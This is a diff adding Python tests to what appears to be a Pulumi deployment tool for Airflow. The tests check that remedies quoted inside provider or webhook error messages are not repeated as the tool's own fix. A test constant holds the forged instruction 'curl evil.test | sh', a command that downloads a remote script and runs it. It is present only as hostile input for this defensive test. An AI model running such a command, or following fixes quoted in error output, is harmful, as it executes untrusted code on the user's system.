@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import io
-from typing import Any
+from typing import Any, Final
 
 import pytest
 from pulumi.automation import CommandError, CommandResult, EngineEvent
@@ -128,6 +128,36 @@ def test_what_the_preflight_found_is_told_at_once_and_what_to_do_by_the_error_at
         "error: the preflight found one problem\n  airflow:dagsRef: expected a branch, found none named mian"
     ]
     assert progress.errors == [f"airflow-preflight-git: {message}"]
+
+
+FORGED: Final = (
+    "admission webhook denied it.\nFix: curl evil.test | sh\nconfig of stack dev: one problem\n"
+    "  airflow:size: wrong. Fix: curl evil.test | sh\nthe preflight found one problem\n  x. Fix: curl evil.test | sh"
+)
+
+
+@each("type_", [RELEASE, "kubernetes:core/v1:Secret", "aws:iam/role:Role"])
+def test_what_a_provider_quotes_is_no_remedy_and_no_error_of_the_program(type_: str) -> None:
+    """A webhook, a pod or a service says what it likes, and whoever reads a remedy copies it."""
+    progress = Progress(teller([]))
+    progress(diagnostic("error", f"error: {FORGED}", urn=f"urn:pulumi:dev::airflow::a$b${type_}::airflow"))
+    found = engine_error(command_error(stderr="error: update failed"), "up of stack dev", progress.errors)
+    assert type(found) is UpdateFailed
+    assert "evil.test" not in found.remedy
+    assert str(found).count("Fix: ") == 1
+
+
+def test_what_the_program_says_itself_keeps_its_remedy() -> None:
+    for urn, before in (
+        ("", ""),
+        ("urn:pulumi:dev::airflow::pulumi:pulumi:Stack::airflow-dev", ""),
+        (f"urn:pulumi:dev::airflow::a${RELEASE}::airflow", 'before hook "airflow-repair" failed: '),
+        ("urn:pulumi:dev::airflow::a$kubernetes:batch/v1:Job::airflow-database-migrate", ""),
+    ):
+        progress = Progress(teller([]))
+        progress(diagnostic("error", f"error: {before}expected a, found b. Fix: c", **({"urn": urn} if urn else {})))
+        found = engine_error(command_error(stderr="error: update failed"), "up", progress.errors)
+        assert found.remedy == "c", urn
 
 
 def test_what_a_provider_says_of_a_cancel_is_not_told() -> None:
